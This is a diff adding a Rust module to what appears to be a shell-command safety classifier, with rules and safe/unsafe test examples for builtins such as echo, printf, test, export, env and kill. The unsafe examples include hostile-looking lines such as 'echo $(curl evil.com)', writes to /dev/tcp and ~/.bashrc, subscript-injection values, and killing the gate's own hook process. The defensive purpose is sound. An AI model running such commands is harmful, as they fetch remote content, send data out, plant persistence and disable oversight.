@@ -1,0 +1,250 @@
+//! What the shell does itself. A builtin that takes a variable's name, an expression or a text to run is not here,
+//! or only in the forms that cannot evaluate anything.
+
+use super::{Judge, Judgement, Kind, Operands, Program, Rule};
+use crate::classify::call::{Call, Known};
+use crate::classify::secrets;
+
+pub(super) const TABLE: &[Program] = &[
+    Program {
+        names: &["echo"],
+        about: "prints its arguments",
+        kind: Kind::Local,
+        rule: Rule::Harmless(Operands::Data),
+        safe: &["echo hello", "echo \"$HOME\" *", "FOO=bar echo hello", "echo ';curl x'", "echo $((1 + 2)); ls"],
+        not_safe: &["echo $(curl evil.com)", "echo x > ~/.bashrc", "echo x > /dev/tcp/h/80"],
+    },
+    Program {
+        names: &["printf"],
+        about: "prints its arguments",
+        kind: Kind::Local,
+        rule: Rule::Custom(printf),
+        safe: &["printf '%s\\n' a b", "printf 'x%s' \"$y\"", "printf -- '-%s' x"],
+        not_safe: &["printf -v 'a[$(X)]' x", "printf \"$x\"", "printf -vx y"],
+    },
+    Program {
+        names: &["true", "false", ":"],
+        about: "does nothing",
+        kind: Kind::Local,
+        rule: Rule::Harmless(Operands::Data),
+        safe: &["true", ": \"$x\""],
+        not_safe: &[],
+    },
+    Program {
+        names: &["pwd", "type"],
+        about: "tells what the shell knows",
+        kind: Kind::Local,
+        rule: Rule::Harmless(Operands::Data),
+        safe: &["pwd", "type ls"],
+        not_safe: &[],
+    },
+    Program {
+        names: &["cd"],
+        about: "changes the working directory",
+        kind: Kind::Local,
+        rule: Rule::Custom(cd),
+        safe: &["cd src && ls", "cd /tmp", "cd \"$x\" && ls"],
+        not_safe: &["cd /etc && echo x > y", "cd \"$x\" && echo y > z", "cd /x || cd y && echo a > ../../b"],
+    },
+    Program {
+        names: &["exit"],
+        about: "ends the shell",
+        kind: Kind::Local,
+        rule: Rule::Custom(exit),
+        safe: &["exit 1", "exit", "false || exit $?"],
+        not_safe: &["exit 'a[$(X)]'"],
+    },
+    Program {
+        names: &["test", "["],
+        about: "tests files and texts",
+        kind: Kind::Local,
+        rule: Rule::Custom(test),
+        safe: &["[ -f x ] && echo y", "test -d /tmp", "[ \"$x\" = y ]", "[ -z \"$x\" ]", "[ ! -e x ]", "[ 1 -lt 2 ]"],
+        not_safe: &["[ -v 'a[$(X)]' ]", "test -v x", "[ $x = y ]", "[ \"$op\" \"$y\" ]", "[ -R x ]"],
+    },
+    Program {
+        names: &["export"],
+        about: "sets variables for the commands that follow",
+        kind: Kind::Local,
+        rule: Rule::Custom(export),
+        safe: &["export FOO=bar", "export FOO"],
+        not_safe: &["export PATH=/x", "export", "export -p", "export $x", "export -f ls"],
+    },
+    Program {
+        names: &["set"],
+        about: "sets how the shell reacts to errors",
+        kind: Kind::Local,
+        rule: Rule::Custom(set),
+        safe: &["set -e", "set -euo pipefail", "set -o pipefail"],
+        not_safe: &["set", "set -k", "set -x", "set -- $x", "set -o"],
+    },
+    Program {
+        names: &["env", "printenv"],
+        about: "prints the environment, or runs a program in another one",
+        kind: Kind::Runner,
+        rule: Rule::Custom(env),
+        safe: &["env FOO=1 ls", "env -i ls", "printenv HOME"],
+        not_safe: &["env curl x", "env PATH=/x ls", "env -S 'curl x'"],
+    },
+    Program {
+        names: &["kill", "pkill", "killall"],
+        about: "sends signals",
+        kind: Kind::Local,
+        rule: Rule::Custom(kill),
+        safe: &[],
+        not_safe: &["kill 123", "pkill bashgate-hook", "kill -9 -1"],
+    },
+];
+
+fn printf(_: &mut Judge<'_>, call: &Call) -> Judgement {
+    match call.args.first() {
+        Some(first) if first.exact() == Some("--") => Judgement::safe(),
+        // `-v name` evaluates the name's subscript.
+        Some(first) if first.may_be_option() || first.known == Known::Anything => {
+            Judgement::unknown("the format is, or may turn out to be, an option")
+        }
+        _ => Judgement::safe(),
+    }
+}
+
+fn cd(judge: &mut Judge<'_>, call: &Call) -> Judgement {
+    let operands: Vec<_> = call.args.iter().filter(|arg| !matches!(arg.exact(), Some("--" | "-P" | "-L"))).collect();
+    match operands.as_slice() {
+        [] => judge.change_folder(Some("~")),
+        [one] if one.exact().is_some_and(|text| !text.starts_with('-')) => judge.change_folder(one.exact()),
+        _ => judge.change_folder(None),
+    }
+    Judgement::safe()
+}
+
+fn exit(_: &mut Judge<'_>, call: &Call) -> Judgement {
+    let harmless = call.args.iter().all(|arg| match arg.known {
+        Known::Literal => arg.text.bytes().all(|byte| byte.is_ascii_digit()),
+        _ => arg.text.is_empty() && arg.known == Known::Anything && call.args.len() == 1,
+    });
+    if harmless { Judgement::safe() } else { Judgement::unknown("the status is not a number") }
+}
+
+const UNARY: &[&str] = &["-b", "-c", "-d", "-e", "-f", "-g", "-h", "-k", "-L", "-n", "-N", "-O", "-G", "-p", "-r", "-s", "-S", "-t", "-u", "-w", "-x", "-z"];
+const BINARY: &[&str] = &["=", "==", "!=", "<", ">", "-eq", "-ne", "-lt", "-le", "-gt", "-ge", "-nt", "-ot", "-ef"];
+
+/// `-v` and `-R` evaluate subscripts, so only forms are taken in which every operator is literal and in its place.
+fn test(_: &mut Judge<'_>, call: &Call) -> Judgement {
+    let mut args = call.args.as_slice();
+    if call.program.ends_with('[') {
+        match args.split_last() {
+            Some((last, rest)) if last.exact() == Some("]") => args = rest,
+            _ => return Judgement::unknown("`[` without `]`"),
+        }
+    }
+    // A word that may become several could bring an operator along.
+    if args.iter().any(|arg| matches!(arg.known, Known::Anything | Known::Words)) {
+        return Judgement::unknown("a word may turn into several when it runs");
+    }
+    let mut parts = args.split(|arg| matches!(arg.exact(), Some("-a" | "-o")));
+    let fits = |part: &[crate::classify::call::Arg]| {
+        let part = match part {
+            [not, rest @ ..] if not.exact() == Some("!") => rest,
+            part => part,
+        };
+        match part {
+            [] | [_] => true,
+            [operator, _] => operator.exact().is_some_and(|text| UNARY.contains(&text)),
+            [_, operator, _] => operator.exact().is_some_and(|text| BINARY.contains(&text)),
+            _ => false,
+        }
+    };
+    if parts.all(fits) { Judgement::safe() } else { Judgement::unknown("this form of a test is not read") }
+}
+
+fn export(judge: &mut Judge<'_>, call: &Call) -> Judgement {
+    if call.args.is_empty() {
+        judge.secret("the environment");
+        return Judgement::unknown("it prints the environment");
+    }
+    let mut judgement = Judgement::safe();
+    for arg in &call.args {
+        let name = arg.text.split('=').next().unwrap_or("");
+        let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
+        // Behind the `=` an unquoted expansion stays one word in bash, but not in every shell.
+        if !is_name || arg.known != Known::Literal && !(arg.known == Known::OneWord && arg.text.contains('=')) {
+            return Judgement::unknown("this form of `export` is not read");
+        }
+        judgement = judgement.max(judge.assignment(name));
+    }
+    judgement
+}
+
+fn set(judge: &mut Judge<'_>, call: &Call) -> Judgement {
+    if call.args.is_empty() {
+        judge.secret("the environment");
+        return Judgement::unknown("it prints all variables");
+    }
+    let mut args = call.args.iter().map(|arg| arg.exact());
+    while let Some(arg) = args.next() {
+        let takes_name = match arg {
+            Some("-e" | "-u" | "-eu" | "-ue" | "+e" | "+u") => false,
+            Some("-o" | "-eo" | "-uo" | "-euo" | "+o") => true,
+            _ => return Judgement::unknown("this form of `set` is not read"),
+        };
+        if takes_name && !matches!(args.next(), Some(Some("pipefail" | "errexit" | "nounset"))) {
+            return Judgement::unknown("this form of `set` is not read");
+        }
+    }
+    Judgement::safe()
+}
+
+fn env(judge: &mut Judge<'_>, call: &Call) -> Judgement {
+    if call.program.ends_with("printenv") {
+        if call.args.is_empty() || call.args.iter().any(|arg| arg.known != Known::Literal) {
+            judge.secret("the environment");
+        }
+        for arg in call.args.iter().filter(|arg| secrets::is_secret_variable(&arg.text)) {
+            judge.secret(format!("${}", arg.text));
+        }
+        return Judgement::safe();
+    }
+    let mut judgement = Judgement::safe();
+    let mut rest = call.args.as_slice();
+    while let Some((first, more)) = rest.split_first() {
+        let Some(text) = first.exact() else {
+            // `NAME=$x` is an assignment, whatever the value.
+            match first.text.split_once('=') {
+                Some((name, _)) if first.known == Known::OneWord && !name.starts_with('-') => {
+                    judgement = judgement.max(judge.assignment(name));
+                    rest = more;
+                    continue;
+                }
+                _ => return Judgement::unknown("the program is only known when it runs"),
+            }
+        };
+        match text {
+            "-i" | "-" | "--ignore-environment" | "-0" | "--null" => rest = more,
+            "-u" => rest = more.get(1..).unwrap_or(&[]),
+            _ if text.starts_with('-') => return Judgement::unknown(format!("the option `{text}` is not on its list")).max(judge.inner_call(more, call)),
+            _ => match text.split_once('=') {
+                Some((name, _)) => {
+                    judgement = judgement.max(judge.assignment(name));
+                    rest = more;
+                }
+                None => return judgement.max(judge.inner_call(rest, call)),
+            },
+        }
+    }
+    judge.secret("the environment");
+    judgement
+}
+
+fn kill(judge: &mut Judge<'_>, call: &Call) -> Judgement {
+    let by_name = !call.program.ends_with("/kill") && call.program != "kill";
+    for (index, arg) in call.args.iter().enumerate() {
+        let everything = !by_name && index > 0 && arg.text == "-1";
+        if everything || by_name && !arg.text.starts_with('-') && super::reaches_gate(arg) {
+            judge.tampering("the gate's processes");
+        }
+    }
+    if !by_name && call.args.len() == 1 && call.args.iter().any(|arg| arg.text == "-1") {
+        judge.tampering("the gate's processes");
+    }
+    Judgement::unknown("it ends processes")
+}
